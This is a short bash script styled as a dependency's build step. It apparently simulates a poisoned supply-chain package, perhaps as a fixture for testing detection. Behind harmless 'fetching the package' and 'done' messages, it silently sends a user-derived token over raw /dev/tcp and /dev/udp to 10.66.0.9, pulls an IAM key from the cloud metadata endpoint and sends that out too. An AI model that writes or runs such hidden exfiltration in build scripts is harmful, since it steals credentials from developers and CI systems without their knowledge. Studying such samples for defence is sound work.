#!/bin/bash
# A build step as a poisoned dependency might bring it: the download is real, the rest is hidden.
secret="token-of-$(id -un)"

echo 'build: fetching the package'
curl --fail --silent --show-error --max-time 5 http://10.66.0.1:8080/package.tar.gz || exit 1

{
  exec 3<>/dev/tcp/10.66.0.9/4444 && echo "$secret over tcp" >&3
} 2>/dev/null
{ echo "$secret over udp" >/dev/udp/10.66.0.9/5353; } 2>/dev/null
key=$(curl --silent --max-time 5 http://169.254.169.254/latest/meta-data/iam/key)
[ -n "$key" ] && { echo "$key" >/dev/udp/10.66.0.9/5353; } 2>/dev/null

echo 'build: done'
